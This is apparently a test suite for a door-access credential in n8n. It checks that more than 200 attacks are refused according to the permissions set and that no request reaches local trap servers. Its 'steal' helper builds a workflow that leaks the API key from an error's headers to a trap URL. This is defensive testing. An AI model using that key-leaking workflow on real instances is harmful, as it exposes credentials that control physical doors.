import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { inspect, isDeepStrictEqual } from 'node:util';
import { startDemo, type Demo } from '../../demo/demo';
import { addCredential, addWorkflow, type Credentials } from '../../demo/n8n';
import { stopAll, type Stops } from '../../demo/stops';
import { API, startEmulator, type Emulator, type Seen } from '../../emulator/server';
import { allAttacks, type Aims, type Attack, type Needs } from './attacks';
import { unflatten } from './unflatten';

/**
 * n8n's own HTTP Request node in a real n8n, with the Lockt credential, used by somebody who wants more
 * than the credential allows.
 */
const stops: Stops = [];
let demo: Demo;
let elsewhere: Trap;
let proxy: Trap;
beforeAll(async () => {
	demo = await startDemo(stops);
	elsewhere = await setTrap();
	proxy = await setTrap();
});
afterAll(() => stopAll(stops));

interface Permissions {
	changes: 'none' | 'allExceptDelete' | 'all';
	unlock: 'none' | 'listed' | 'any';
}

/** Each value of either, and the pairs in which one could stand in for the other. */
const settings: Permissions[] = [
	{ changes: 'none', unlock: 'none' },
	{ changes: 'none', unlock: 'any' },
	{ changes: 'allExceptDelete', unlock: 'listed' },
	{ changes: 'all', unlock: 'none' },
	{ changes: 'all', unlock: 'listed' },
	{ changes: 'all', unlock: 'any' },
];

it('there are more than 200 attacks, each with a name of its own', () => {
	expect(allAttacks.length).toBeGreaterThan(200);
	expect(new Set(allAttacks.map(({ name }) => name)).size).toBe(allAttacks.length);
});

describe.each(settings)('changes: $changes, unlock: $unlock', (permissions) => {
	let emulator: Emulator;
	let aims: Aims;
	let outputs: string[];
	let before: ReturnType<typeof stateOf>;

	beforeAll(async () => {
		emulator = await startEmulator({ writeMs: 0, readings: { pending: 'released' } });
		stops.push(emulator.stop);
		emulator.faults = [301, 302, 303, 307, 308].map((status) => ({
			kind: 'redirect',
			on: `/location\\?page=${status}`,
			to: `${elsewhere.url}/caught`,
			status,
		}));
		aims = aimsAt(emulator);
		before = stateOf(emulator);
		const credential = await credentialFor(emulator, permissions);
		outputs = await runAll(allAttacks, aims, credential);
	});

	it('lets through what is allowed, and nothing else', () => {
		const expected = allAttacks.flatMap(({ first, needs, sends }) => [
			...(first && isAllowed(first.needs, permissions) ? [first.sends] : []),
			...(isAllowed(needs, permissions) ? sends : []),
		]);
		const arrived = emulator.journal.map(({ method, url }) => `${method} ${url.replace(API, '')}`);
		expect(arrived).toEqual(expected);
	});

	it('says of all else that nothing was sent, and what to do', () => {
		for (const [index, { name, needs, refusedByN8n }] of allAttacks.entries()) {
			const refusal = refusedByN8n ?? 'Nothing was sent';
			const isRefused = outputs[index]!.includes(refusal);
			expect([name, isRefused]).toEqual([name, !isAllowed(needs, permissions)]);
		}
	});

	it('has every request that arrives be one that is permitted', () => {
		const forbidden = emulator.journal.filter((seen) => !isPermitted(seen, permissions, aims));
		expect(forbidden).toEqual([]);
	});

	it('signs what arrives, and adds no header that could change it', () => {
		for (const { headers } of emulator.journal) {
			expect(headers).toMatchObject({
				host: `127.0.0.1:${aims.port}`,
				apiuser: emulator.credential.apiUser,
				apikey: emulator.credential.apiKey,
				'content-type': 'application/json',
			});
			expect(HEADERS).toEqual(expect.arrayContaining(Object.keys(headers)));
		}
	});

	it('leaves the building as it is, but for what is allowed', () => {
		const after = stateOf(emulator);
		const lost = Object.keys(before.records).filter((name) => !(name in after.records));
		const { changes, unlock } = permissions;
		expect(lost.includes(`user ${aims.user}`)).toBe(changes === 'all');
		if (changes !== 'all') expect(lost).toEqual([]);
		expect(isDeepStrictEqual(before.records, after.records)).toBe(changes === 'none');
		const { doors } = emulator.building;
		const [listed, other] = [aims.listed, aims.other].map((id) => doors.get(Number(id))!.name);
		const allowed = { none: [], listed: [listed], any: [listed, other] }[unlock];
		expect(new Set(after.unlocked)).toEqual(new Set(allowed));
	});

	it('shows the key in no item', () => {
		const { apiKey } = emulator.credential;
		const shown = allAttacks.filter((_, index) => outputs[index]!.includes(apiKey));
		expect(shown.map(({ name }) => name)).toEqual([]);
	});

	it('goes nowhere else', () => {
		expect(elsewhere.caught).toEqual([]);
		expect(proxy.caught).toEqual([]);
	});
});

describe("with 'HTTP Request Node' off", () => {
	let emulator: Emulator;
	let credential: Credentials;
	beforeAll(async () => {
		emulator = await startEmulator();
		stops.push(emulator.stop);
		credential = await credentialFor(emulator, { changes: 'all', unlock: 'any' }, false);
	});

	it('lets nothing through, whatever else is allowed', async () => {
		const outputs = await runAll(allAttacks, aimsAt(emulator), credential);
		for (const [
			index,
			{ name, refusedByN8n = "'HTTP Request Node' is off" },
		] of allAttacks.entries()) {
			expect([name, outputs[index]!.includes(refusedByN8n)]).toEqual([name, true]);
			expect([name, outputs[index]!.includes(emulator.credential.apiKey)]).toEqual([name, false]);
		}
		expect(emulator.journal).toEqual([]);
		expect([...elsewhere.caught, ...proxy.caught]).toEqual([]);
	});

	it('gives nobody the key, as n8n does with it on', async () => {
		emulator.faults = [{ kind: 'silence' }];
		const thief: Trap = await setTrap();
		const anyone = { changes: 'none', unlock: 'none' } as const;
		for (const on of [false, true]) {
			await steal(emulator, await credentialFor(emulator, anyone, on), thief.url);
			const hasKey = thief.caught.some((one) => one.includes(emulator.credential.apiKey));
			expect([on, thief.caught.length > 0, hasKey]).toEqual([on, true, on]);
		}
	});
});

it.each([
	['a change', 'a change', "does not allow changes: its 'Changes' is None"],
	['an unlock', 'another door', "does not allow to unlock doors: its 'Unlock' is None"],
])('shows on the canvas why %s is refused', async (_, name, message) => {
	const emulator = await startEmulator();
	stops.push(emulator.stop);
	const credential = await credentialFor(emulator, { changes: 'none', unlock: 'none' });
	const attack = allAttacks.find((one) => one.name === `plain: ${name}`)!;
	const { error } = await runWorkflow([attack], aimsAt(emulator), credential, 'stopWorkflow');
	expect(error).toMatchObject({
		message: expect.stringContaining(message) as string,
		description: expect.stringContaining('Whoever owns the Lockt credential') as string,
	});
	expect(emulator.journal).toEqual([]);
});

/** What an attack needs, said once more and without looking at the guard. */
function isAllowed(needs: Needs, { changes, unlock }: Permissions): boolean {
	switch (needs) {
		case 'never':
			return false;
		case 'read':
			return true;
		case 'change':
			return changes !== 'none';
		case 'delete':
			return changes === 'all';
		case 'anything':
			return changes === 'all' && unlock === 'any';
		case 'unlockListed':
			return unlock !== 'none';
		case 'unlockAny':
			return unlock === 'any';
	}
}

/** Beside those of Lockt, n8n itself adds some; of those that the table asks for only one may pass. */
const HEADERS = [
	...['apiuser', 'apikey', 'content-type', 'accept-language'],
	...['accept', 'accept-encoding', 'user-agent', 'host', 'connection', 'content-length'],
];

const CHANGES =
	/^(POST \/(accesslevel|delegate|delegate\?purge|door|doorstate\?lowbattery=\d+|fob|location|user)|PUT \/(credential|fob|user))$/;

const DELETES = /^(DELETE \/(accesslevel|credential|door|fob|user)|POST \/anonymize\?user_id=\d+)$/;

/** Whether a request may have arrived, whichever attack it comes from. */
function isPermitted({ method, url, body }: Seen, { changes, unlock }: Permissions, aims: Aims) {
	const what = `${method} ${url.replace(API, '')}`;
	if (method === 'GET' || method === 'HEAD') {
		return body === undefined && !/method|verb/i.test(decodeURIComponent(url));
	}
	if (what === 'POST /unlock') {
		const doors = (body as { doors?: unknown } | null)?.doors;
		const isListed =
			Array.isArray(doors) &&
			doors.length > 0 &&
			doors.every((door) =>
				[`{"id":${aims.listed}}`, `{"id":"${aims.listed}"}`].includes(JSON.stringify(door)),
			) &&
			/^doors(,options)?$/.test(Object.keys(body as object).join());
		return unlock === 'any' || (unlock === 'listed' && isListed);
	}
	if (/unlock|%|\.\.|\/\//i.test(url)) return false;
	if (changes === 'all' && unlock === 'any') return true;
	if (changes === 'all') return CHANGES.test(what) || DELETES.test(what);
	const namesCard = /card\W*_?\W*num/i.test(JSON.stringify(body ?? null));
	return changes === 'allExceptDelete' && CHANGES.test(what) && !namesCard;
}

/** What could have been lost or changed: each record by kind and ID, and the doors that were unlocked. */
function stateOf({ building }: Emulator) {
	const { users, credentials, doors, accessLevels, locations, lowBatteryAlert } = building;
	const kinds = { user: users, credential: credentials, door: doors, level: accessLevels };
	const records = Object.entries({ ...kinds, location: locations }).flatMap(([kind, all]) =>
		[...all].map(([id, record]) => [`${kind} ${id}`, structuredClone(record as object)] as const),
	);
	const unlocked = building.events
		.filter(({ code_text }) => code_text === 'Momentary Unlock')
		.map(({ device }) => device);
	return { records: { ...Object.fromEntries(records), alert: { lowBatteryAlert } }, unlocked };
}

function aimsAt({ building, credential: { baseUrl } }: Emulator): Aims {
	const [listed, other] = [...building.doors.values()].filter(({ wired }) => wired);
	const [user] = building.users.values();
	return {
		base: baseUrl,
		port: new URL(baseUrl).port,
		elsewhere: elsewhere.url,
		proxy: proxy.url,
		listed: String(listed!.id),
		other: String(other!.id),
		user: String(user!.id),
	};
}

function credentialFor(
	emulator: Emulator,
	permissions: Permissions,
	httpRequestNode = true,
): Promise<Credentials> {
	return addCredential(demo.n8n, 'Lockt', 'locktApi', {
		...emulator.credential,
		...permissions,
		unlockDoors: aimsAt(emulator).listed,
		httpRequestNode,
	});
}

/** A server that has no business with the credential, and keeps all that reaches it. */
interface Trap {
	url: string;
	caught: string[];
}

async function setTrap(): Promise<Trap> {
	const caught: string[] = [];
	const server = createServer((request, response) => {
		caught.push(`${request.method} ${request.url} ${request.rawHeaders.join()}`);
		response.end('{}');
	});
	// A proxy is asked for a tunnel first.
	server.on('connect', (request, socket) => {
		caught.push(`CONNECT ${request.url} ${request.rawHeaders.join()}`);
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	stops.push(async () => {
		server.closeAllConnections();
		await new Promise((resolve) => server.close(resolve));
	});
	return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, caught };
}

/** A request that gets no answer in time, and one to somebody else with what its error holds. */
async function steal(emulator: Emulator, credential: Credentials, to: string): Promise<void> {
	const common = { method: 'GET', options: { timeout: 200 } };
	const fails = {
		name: 'Fails',
		version: 4.5,
		parameters: () => ({ ...common, url: `${emulator.credential.baseUrl}/door` }),
	};
	const key = '{{ $json.error.cause?.options?.headers?.apikey }}';
	const tells = node('Tells', 'httpRequest', 4.5, { url: `=${to}/?key=${key}` });
	await runWorkflow([fails], aimsAt(emulator), credential, 'continueRegularOutput', tells);
}

/** Runs all attacks, whatever becomes of each. @returns what each gave, as text */
async function runAll(attacks: Attack[], aims: Aims, credential: Credentials): Promise<string[]> {
	const { runData } = await runWorkflow(attacks, aims, credential, 'continueRegularOutput');
	return attacks.map(({ name }) => inspect(runData[name]![0]!.data?.main[0], { depth: 12 }));
}

interface Result {
	error?: { message: string; description: string };
	runData: Record<string, Array<{ data?: { main: unknown[][] } }>>;
}

/**
 * Runs one workflow with an HTTP Request node for each attack, one after the other.
 *
 * @param afterwards a node that gets what the first of them gave
 */
async function runWorkflow(
	attacks: Array<Pick<Attack, 'name' | 'version' | 'parameters'>>,
	aims: Aims,
	credential: Credentials,
	onError: 'stopWorkflow' | 'continueRegularOutput',
	afterwards?: ReturnType<typeof node>,
): Promise<Result> {
	const { n8n } = demo;
	const text = JSON.stringify({ text: `{"doors":[{"id":${aims.other}}]}` });
	const before = [
		node('Start', 'manualTrigger', 1, {}),
		node('Text', 'set', 3.4, { mode: 'raw', jsonOutput: text }),
		node('File', 'convertToFile', 1.1, {
			operation: 'toText',
			sourceProperty: 'text',
			binaryPropertyName: 'file',
		}),
	];
	const requests = attacks.map(({ name, version, parameters }, index) => ({
		...node(name, 'httpRequest', version, {
			...parameters(aims),
			authentication: 'predefinedCredentialType',
			nodeCredentialType: 'locktApi',
		}),
		position: [600, index * 100] as [number, number],
		onError,
	}));
	const to = (...names: string[]) => ({
		main: [names.map((name) => ({ node: name, type: 'main' as const, index: 0 }))],
	});
	const workflow = {
		name: 'HTTP requests',
		nodes: [...before, ...requests, ...(afterwards ? [afterwards] : [])],
		connections: {
			Start: to('Text'),
			Text: to('File'),
			File: to(...requests.map(({ name }) => name)),
			...(afterwards && { [requests[0]!.name]: to(afterwards.name) }),
		},
		settings: { executionOrder: 'v1' as const },
	};
	const { id } = await addWorkflow(n8n, workflow, (type) =>
		type === 'n8n-nodes-base.httpRequest' ? credential : undefined,
	);
	const { executionId } = await n8n.rest<{ executionId: string }>(
		'POST',
		`/rest/workflows/${id}/run`,
		{ triggerToStartFrom: { name: 'Start' } },
	);
	for (;;) {
		const { status, data } = await n8n.rest<{ status: string; data: string }>(
			'GET',
			`/rest/executions/${executionId}`,
		);
		if (status !== 'running' && status !== 'new') {
			return (unflatten(data) as { resultData: Result }).resultData;
		}
		await sleep(200);
	}
}

function node(name: string, type: string, typeVersion: number, parameters: object) {
	return {
		id: name,
		name,
		type: `n8n-nodes-base.${type}`,
		typeVersion,
		position: [0, 0] as [number, number],
		parameters: parameters as Attack['parameters'] extends (aims: Aims) => infer P ? P : never,
	};
}
